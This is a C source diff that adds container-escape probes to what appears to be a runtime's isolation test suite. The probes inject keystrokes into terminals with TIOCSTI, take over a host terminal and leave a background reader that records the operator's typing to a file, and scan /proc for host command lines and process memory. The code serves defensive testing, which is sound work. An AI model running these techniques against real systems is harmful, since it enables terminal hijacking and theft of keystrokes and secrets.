@@ -1389,6 +1389,272 @@ static int a_userns(int argc, char **argv)
     return refused("in a user namespace of its own:%s", log);
 }
 
+/* -- exec: the operator's terminal and the entering process (issue 12 items 1, 8) -- */
+#include <sys/prctl.h>
+#include <termios.h>
+
+/* The terminal device behind a tty fd (TIOCGDEV: /dev/tty and /dev/console name another). */
+static int tty_dev(int fd, unsigned int *dev)
+{
+    return ioctl(fd, TIOCGDEV, dev);
+}
+
+/* An own terminal of the container: a pty of its devpts (/dev/pts), or its console (a pty
+ * hutch gave it at start). */
+static int own_tty(int fd)
+{
+    struct stat st, other;
+    if (fstat(fd, &st) < 0)
+        return 0;
+    if (stat("/dev/pts", &other) == 0 && st.st_dev == other.st_dev)
+        return 1;
+    if (stat("/dev/console", &other) == 0 && st.st_dev == other.st_dev && st.st_rdev == other.st_rdev)
+        return 1;
+    return 0;
+}
+
+/* A terminal that is not one of the container's own: the one `hutch exec` was typed on.
+ * Pushing input into the container's own pty is no escape. /dev/tty (char 5:0) is the
+ * controlling terminal: own if it is the pty one of our stdio fds is. */
+static int foreign_tty(int fd)
+{
+    struct stat st;
+    if (!isatty(fd) || fstat(fd, &st) < 0)
+        return 0;
+    if (S_ISCHR(st.st_mode) && major(st.st_rdev) == 5 && minor(st.st_rdev) == 0) {
+        unsigned int dev, mine;
+        if (tty_dev(fd, &dev) < 0)
+            return 1;
+        for (int i = 0; i < 3; i++)
+            if (isatty(i) && own_tty(i) && tty_dev(i, &mine) == 0 && mine == dev)
+                return 0;
+        return 1;
+    }
+    return !own_tty(fd);
+}
+
+#define MAX_TTY_TARGETS 64
+
+struct tty_target {
+    char name[96];
+    int fd;
+};
+
+/* Every way to a terminal the probe can think of: /dev/tty, its stdio, every fd of its own
+ * reopened through /proc/self/fd, and stdio of every other process it can see. */
+static int tty_targets(struct tty_target *t, char *log, size_t len)
+{
+    int n = 0;
+    int fd = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
+    if (fd < 0)
+        snprintf(log + strlen(log), len - strlen(log), " /dev/tty:%s", en(errno));
+    else
+        snprintf(t[n].name, sizeof t[n].name, "/dev/tty"), t[n++].fd = fd;
+    for (int i = 0; i < 3; i++)
+        snprintf(t[n].name, sizeof t[n].name, "fd%d", i), t[n++].fd = i;
+    DIR *proc = opendir("/proc");
+    struct dirent *de;
+    while (proc && (de = readdir(proc)) && n < MAX_TTY_TARGETS - 1) {
+        if (atoi(de->d_name) <= 0 && strcmp(de->d_name, "self") != 0)
+            continue;
+        int self = strcmp(de->d_name, "self") == 0 || atoi(de->d_name) == getpid();
+        for (int i = 0; i < (self ? 16 : 3) && n < MAX_TTY_TARGETS - 1; i++) {
+            char path[96];
+            snprintf(path, sizeof path, "/proc/%.20s/fd/%d", de->d_name, i);
+            fd = open(path, O_RDWR | O_NOCTTY | O_CLOEXEC);
+            if (fd < 0)
+                continue;
+            if (!isatty(fd)) {
+                close(fd);
+                continue;
+            }
+            snprintf(t[n].name, sizeof t[n].name, "%.90s", path);
+            t[n++].fd = fd;
+        }
+    }
+    if (proc)
+        closedir(proc);
+    return n;
+}
+
+/* Push PAYLOAD and a newline into every terminal found, with TIOCSTI (as if typed). */
+static int a_sti(int argc, char **argv)
+{
+    if (argc < 3)
+        return broken("usage: sti PAYLOAD");
+    struct tty_target t[MAX_TTY_TARGETS];
+    char log[4096] = "";
+    int n = tty_targets(t, log, sizeof log), bad = 0;
+    char line[512];
+    snprintf(line, sizeof line, "%s\n", argv[2]);
+    for (int i = 0; i < n; i++) {
+        int foreign = foreign_tty(t[i].fd), err = 0;
+        for (const char *c = line; *c && !err; c++)
+            if (ioctl(t[i].fd, TIOCSTI, c) < 0)
+                err = errno;
+        size_t o = strlen(log);
+        if (err)
+            snprintf(log + o, sizeof log - o, " %.90s:%s", t[i].name, en(err));
+        else if (foreign)
+            bad = 1, snprintf(log + o, sizeof log - o, " %.90s:PUSHED INTO A HOST TERMINAL", t[i].name);
+        else
+            snprintf(log + o, sizeof log - o, " %.90s:pushed into its own pty", t[i].name);
+    }
+    return bad ? escaped("TIOCSTI:%s", log) : refused("TIOCSTI:%s", log);
+}
+
+/* Take a host terminal: make it the controlling one (TIOCSCTTY), take its foreground
+ * (tcsetpgrp); then leave a child behind that reads what is typed next (stdin, /dev/tty)
+ * for SECONDS and writes it to FILE, ending with a line "done". */
+static int a_tty_steal(int argc, char **argv)
+{
+    if (argc < 4)
+        return broken("usage: tty_steal FILE SECONDS");
+    struct tty_target t[MAX_TTY_TARGETS];
+    char log[4096] = "";
+    int n = tty_targets(t, log, sizeof log), bad = 0;
+    /* as an attacker would: job-control stops ignored, so tcsetpgrp from the background
+     * goes through; and a group of its own in the terminal's session, to put in front */
+    signal(SIGTTOU, SIG_IGN);
+    signal(SIGTTIN, SIG_IGN);
+    setpgid(0, 0);
+    for (int i = 0; i < n; i++) {
+        if (!foreign_tty(t[i].fd))
+            continue;
+        int sctty = ioctl(t[i].fd, TIOCSCTTY, 1) < 0 ? errno : 0;
+        int pgrp = tcsetpgrp(t[i].fd, getpgrp()) < 0 ? errno : 0;
+        size_t o = strlen(log);
+        snprintf(log + o, sizeof log - o, " %.90s(host tty):TIOCSCTTY %s, tcsetpgrp %s", t[i].name,
+                 sctty ? en(sctty) : "WORKED", pgrp ? en(pgrp) : "WORKED");
+        bad |= !sctty || !pgrp;
+    }
+    for (int i = 0; i < n; i++)
+        if (t[i].fd > 2)
+            close(t[i].fd);
+    int secs = atoi(argv[3]);
+    signal(SIGHUP, SIG_IGN); /* the reader outlives the probe, the session's leader */
+    pid_t pid = fork();
+    if (pid < 0)
+        return broken("fork: %s", en(errno));
+    if (pid == 0) {
+        FILE *out = fopen(argv[2], "w");
+        if (!out)
+            _exit(2);
+        setvbuf(out, NULL, _IONBF, 0);
+        alarm(secs);
+        sleep(1); /* the probe has exited, `hutch exec` returned */
+        int fds[2] = {0, open("/dev/tty", O_RDONLY | O_NOCTTY)};
+        fprintf(out, "/dev/tty: %s\n", fds[1] < 0 ? en(errno) : "opened");
+        for (int i = 0; i < 2; i++) /* the shell has the terminal back: take it again */
+            if (fds[i] >= 0 && foreign_tty(fds[i]))
+                fprintf(out, "tcsetpgrp %s: %s\n", i ? "/dev/tty" : "stdin",
+                        tcsetpgrp(fds[i], getpgrp()) < 0 ? en(errno) : "WORKED");
+        for (int i = 0; i < 2; i++) {
+            char buf[256];
+            ssize_t r;
+            while (fds[i] >= 0 && (r = read(fds[i], buf, sizeof buf - 1)) > 0) {
+                buf[r] = 0;
+                fprintf(out, "%s read: %s\n", i ? "/dev/tty" : "stdin", buf);
+            }
+            if (fds[i] >= 0)
+                fprintf(out, "%s: %s\n", i ? "/dev/tty" : "stdin", r < 0 ? en(errno) : "EOF");
+        }
+        fprintf(out, "done\n");
+        _exit(0);
+    }
+    if (bad)
+        return escaped("a host terminal:%s", log);
+    return refused("no host terminal to take:%s; reader %d left behind", log, (int)pid);
+}
+
+/* For SECONDS, read the cmdline of every process in sight: none may show one of WORDS (the
+ * operator's command line). A process that still runs the host's Python (binary DEV:INO,
+ * comm "python*", between `hutch exec`'s fork and execve) must not be open to us: not its
+ * memory, environ, fds, exe, cwd or root (it is not dumpable). */
+static int a_cmdline_watch(int argc, char **argv)
+{
+    if (argc < 6)
+        return broken("usage: cmdline_watch SECONDS DEV INO WORD...");
+    double secs = atof(argv[2]);
+    unsigned long long dev = strtoull(argv[3], NULL, 0), ino = strtoull(argv[4], NULL, 0);
+    struct timespec t0, t;
+    clock_gettime(CLOCK_MONOTONIC, &t0);
+    static char seen[1 << 16];
+    int seen_n = 0, passes = 0, python = 0, execing = 0;
+    pid_t me = getpid();
+    for (;;) {
+        clock_gettime(CLOCK_MONOTONIC, &t);
+        if ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 > secs)
+            break;
+        passes++;
+        DIR *d = opendir("/proc");
+        if (!d)
+            return broken("opendir /proc: %s", en(errno));
+        struct dirent *de;
+        while ((de = readdir(d))) {
+            int pid = atoi(de->d_name);
+            if (pid <= 0 || pid == me)
+                continue;
+            if (pid < (1 << 16) && !seen[pid])
+                seen[pid] = 1, seen_n++;
+            char path[64], buf[4096];
+            snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
+            int fd = open(path, O_RDONLY | O_CLOEXEC);
+            if (fd < 0)
+                continue;
+            ssize_t r = read(fd, buf, sizeof buf - 1);
+            close(fd);
+            for (ssize_t i = 0; i < r; i++)
+                if (!buf[i])
+                    buf[i] = ' ';
+            buf[r > 0 ? r : 0] = 0;
+            for (int w = 5; w < argc; w++)
+                if (strstr(buf, argv[w])) {
+                    closedir(d);
+                    return escaped("pid %d shows %s in its cmdline: %.200s", pid, argv[w], buf);
+                }
+            char comm[64] = "";
+            snprintf(path, sizeof path, "/proc/%d/comm", pid);
+            read_file(path, comm, sizeof comm);
+            if (strncmp(comm, "python", 6) != 0)
+                continue;
+            python++;
+            /* what reaches into the process (ptrace access); its fd directory may be
+             * listed by owner rights (an identity-mapped root), its links not followed */
+            static const char *parts[] = {"mem",   "environ", "exe",  "cwd/.", "root/.",
+                                          "fd/0",  "fd/1",    "fd/2", "fd/3",  "fd/4",
+                                          "fd/5",  "fd/6",    "fd/7", "fd/8",  NULL};
+            for (int i = 0; parts[i]; i++) {
+                snprintf(path, sizeof path, "/proc/%d/%s", pid, parts[i]);
+                int pfd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
+                if (pfd < 0)
+                    continue;
+                close(pfd);
+                /* execve makes the process dumpable (after closing its O_CLOEXEC fds) before
+                 * it renames it: opened in that window, it runs the container's binary
+                 * already. Still the host's Python (or no telling) is an escape. */
+                struct stat st;
+                snprintf(path, sizeof path, "/proc/%d/exe", pid);
+                int e = stat(path, &st) < 0 ? errno : 0;
+                if (e == ENOENT || e == ESRCH)
+                    continue; /* gone */
+                if (e || ((unsigned long long)st.st_dev == dev &&
+                          (unsigned long long)st.st_ino == ino)) {
+                    closedir(d);
+                    return escaped("pid %d (the host's Python, entering) opened: /proc/%d/%s%s%s",
+                                   pid, pid, parts[i], e ? "; its exe: " : "", e ? en(e) : "");
+                }
+                execing++;
+            }
+        }
+        closedir(d);
+    }
+    return refused("%d passes over /proc, %d pids seen, %d entering processes met (%d caught "
+                   "in execve), none showed the words or opened up",
+                   passes, seen_n, python, execing);
+}
+/* -- end of exec's block -- */
+
 /* -- seccomp: the calls of the default policy table (issue 12 item 6) -- */
 
 #define SC_FSCONFIG_SET_STRING 1
@@ -2142,6 +2408,11 @@ static const struct attack ATTACKS[] = {
     {"memhog", a_memhog},
     {"forkbomb", a_forkbomb},
     {"userns", a_userns},
+    /* -- exec -- */
+    {"sti", a_sti},
+    {"tty_steal", a_tty_steal},
+    {"cmdline_watch", a_cmdline_watch},
+
     /* -- seccomp -- */
     {"io_uring_setup", a_io_uring_setup},
     {"fsopen", a_fsopen},
